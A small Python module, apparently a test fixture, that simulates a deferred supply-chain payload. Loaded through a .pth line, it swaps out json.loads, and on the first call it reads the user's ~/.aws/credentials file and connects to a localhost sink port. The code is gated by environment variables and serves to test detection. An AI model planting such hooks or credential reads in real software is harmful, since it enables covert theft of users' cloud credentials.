# Deferred payload: imported by a .pth line at start-up, it only replaces json.loads. The theft
# happens when the application itself calls json.loads, long after main started.
import json
import os
import socket

_loads = json.loads


def _steal():
    data = open(os.path.expanduser("~/.aws/credentials")).read()
    socket.create_connection(("127.0.0.1", int(os.environ["PREMAIN_SINK_PORT"])), timeout=3).close()
    open(os.environ["PREMAIN_RESULT"], "a").write("json: read %d bytes, connected\n" % len(data))


def loads(s, *args, **kwargs):
    global _stolen
    if not _stolen:
        _stolen = True
        _steal()
    return _loads(s, *args, **kwargs)


_stolen = False
if os.environ.get("PREMAIN_DEFERRED") == "json":
    json.loads = loads
